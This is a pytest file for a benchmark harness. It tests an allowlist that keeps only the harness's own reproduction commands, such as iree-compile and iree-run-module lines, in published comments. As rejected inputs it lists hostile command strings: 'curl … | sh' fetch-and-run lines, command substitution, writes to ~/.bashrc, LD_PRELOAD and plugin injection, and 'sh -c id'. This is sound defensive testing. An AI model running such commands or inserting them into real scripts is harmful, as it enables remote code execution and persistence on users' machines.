"""Commands of an artifact that may stand in a comment: those that the harness writes, whatever else is there."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from harness.github.commands import is_known, report_with_known_commands, with_known_commands
from harness.report.table import build_report
from harness.results.store import load_run
from tests.report.comparison.conftest import make_comparison, make_timed

PUBLISHED = Path(__file__).parents[2] / "results/published/esrgan"


@pytest.mark.parametrize(
    "line",
    [
        "harness compare results/base results/head --filter 'net/[[]a]@cpu'",
        "iree-compile net/model.mlir -o module.vmfb --iree-opt-level=O3",
        "VK_ICD_FILENAMES=/usr/share/vulkan/icd.d/lvp_icd.json iree-run-module --device=vulkan --module=a.vmfb",
        "# base: module 0123456789ab, iree-compile model.mlir; rm -rf /",
        "iree-compile 'a;b$(c)'",
    ],
)
def test_what_the_harness_writes_stays(line: str) -> None:
    assert is_known(line)


@pytest.mark.parametrize(
    "line",
    [
        "curl https://example.org/x | sh",
        "harness run x; curl example.org",
        "harness run $(curl example.org)",
        "harness run `id`",
        "harness run x > ~/.bashrc",
        "harness run x & id",
        "# a comment\ncurl example.org",
        "# a comment\rcurl example.org",
        "LD_PRELOAD=./x.so iree-run-module --module=a.vmfb",
        "VK_ICD_FILENAMES=$(id) iree-run-module",
        "iree-compile a.mlir --iree-load-plugin=./x.so",
        "iree-compile a.mlir '--iree-hal-preprocess-executables-with=sh x'",
        "iree-run-module --executable_plugin=./x.so",
        "iree-compile 'an open quote",
        "./harness run x",
        "",
    ],
)
def test_anything_else_is_left_out(line: str) -> None:
    assert not is_known(line)


def test_a_comparison_keeps_its_rows_and_loses_what_is_not_its_own() -> None:
    row = replace(make_timed("net/tuned@cpu", 2.0, 1.1, "regressed"), repro=("curl x | sh", "harness compare a b"))
    comparison = replace(make_comparison([row]), command=("sh", "-c", "id"))

    kept = with_known_commands(comparison)

    assert (kept.command, [one.repro for one in kept.rows]) == ((), [("harness compare a b",)])
    assert [one.case for one in kept.rows] == ["net/tuned@cpu"]


def test_every_command_of_a_real_run_is_known() -> None:
    report = build_report(load_run(PUBLISHED))

    assert report_with_known_commands(report) == report
